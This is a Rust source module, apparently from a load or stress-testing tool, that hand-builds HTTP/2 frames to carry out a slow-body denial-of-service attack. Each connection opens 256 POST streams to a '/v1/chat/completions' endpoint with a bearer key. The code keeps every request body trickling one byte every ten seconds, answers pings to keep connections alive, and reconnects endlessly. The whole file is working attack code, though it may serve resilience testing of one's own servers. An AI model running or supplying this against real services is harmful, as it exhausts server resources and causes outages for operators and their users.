//! A pattern over HTTP/2 with prior knowledge. It writes frames itself, because a client library sends only the frames
//! of a well-behaved client.

use std::{collections::BTreeSet, io, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::{Instant, interval, sleep},
};

use crate::Target;

/// Streams of a connection.
const STREAMS: usize = 256;
/// How often a byte of each body is sent.
const BYTE_EVERY: Duration = Duration::from_secs(10);
/// Streams opened on a connection each second, until there are [`STREAMS`].
const OPENED_EACH_SECOND: usize = 64;
const FRAME_HEAD: usize = 9;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GO_AWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;

const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

/// 256 requests on one connection, of which each sends one byte of its body every ten seconds.
pub(crate) async fn slow_bodies(target: &Target, number: usize) {
    // The connections send at different moments.
    sleep(Duration::from_millis(number as u64 * 1_000 / 64)).await;
    loop {
        let _ = connection(target).await;
        sleep(Duration::from_millis(100)).await;
    }
}

/// The streams of one connection.
struct Streams {
    open: BTreeSet<u32>,
    next: u32,
}

async fn connection(target: &Target) -> io::Result<()> {
    let mut stream = TcpStream::connect(&target.address).await?;
    stream.set_nodelay(true)?;
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut out, SETTINGS, 0, 0, &[]);
    frame(&mut out, WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes());
    stream.write_all(&out).await?;
    let (mut reader, mut writer) = stream.split();
    let headers = header_block(target);
    let mut streams = Streams { open: BTreeSet::new(), next: 1 };
    let mut received = Vec::new();
    let mut tick = interval(Duration::from_secs(1));
    let mut last_byte = Instant::now();
    loop {
        out.clear();
        tokio::select! {
            read = reader.read_buf(&mut received) => {
                if read? == 0 || !take_frames(&mut received, &mut streams, &mut out, target) {
                    return Ok(());
                }
            }
            now = tick.tick() => {
                for _ in streams.open.len()..STREAMS.min(streams.open.len() + OPENED_EACH_SECOND) {
                    frame(&mut out, HEADERS, END_HEADERS, streams.next, &headers);
                    frame(&mut out, DATA, 0, streams.next, b"{");
                    streams.open.insert(streams.next);
                    streams.next += 2;
                }
                if now.duration_since(last_byte) >= BYTE_EVERY {
                    last_byte = now;
                    streams.open.iter().for_each(|id| frame(&mut out, DATA, 0, *id, b" "));
                }
            }
        }
        writer.write_all(&out).await?;
    }
}

/// Takes the complete frames out of `received`, and appends the required acknowledgements to `out`. `false`: the server closes the
/// connection.
fn take_frames(received: &mut Vec<u8>, streams: &mut Streams, out: &mut Vec<u8>, target: &Target) -> bool {
    let mut from = 0;
    while let Some(head) = received.get(from..from + FRAME_HEAD) {
        let length = usize::from(head[0]) << 16 | usize::from(head[1]) << 8 | usize::from(head[2]);
        let (kind, flags) = (head[3], head[4]);
        let id = u32::from_be_bytes([head[5], head[6], head[7], head[8]]);
        let Some(payload) = received.get(from + FRAME_HEAD..from + FRAME_HEAD + length) else { break };
        match kind {
            SETTINGS if flags & ACK == 0 => frame(out, SETTINGS, ACK, 0, &[]),
            PING if flags & ACK == 0 => frame(out, PING, ACK, 0, payload),
            GO_AWAY => return false,
            _ => {}
        }
        if (kind == RESET || matches!(kind, DATA | HEADERS) && flags & END_STREAM != 0) && streams.open.remove(&id) {
            target.counts.exchange(false);
            if kind != RESET {
                // CANCEL: the rest of the body is not sent.
                frame(out, RESET, 0, id, &8_u32.to_be_bytes());
            }
        }
        from += FRAME_HEAD + length;
    }
    received.drain(..from);
    true
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, id: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("frames are short").to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&id.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The head of a request as literal fields (RFC 7541, section 6.2.2), except for `POST` and `http`.
fn header_block(target: &Target) -> Vec<u8> {
    let mut block = vec![0x83, 0x86];
    let text = |text: &str, block: &mut Vec<u8>| {
        block.push(u8::try_from(text.len()).ok().filter(|length| *length < 127).expect("a short text"));
        block.extend_from_slice(text.as_bytes());
    };
    block.push(0x04);
    text("/v1/chat/completions", &mut block);
    block.push(0x01);
    text(&target.address, &mut block);
    for (name, value) in [("authorization", format!("Bearer {}", target.key)), ("content-type", "application/json".to_owned())] {
        block.push(0);
        text(name, &mut block);
        text(&value, &mut block);
    }
    block
}
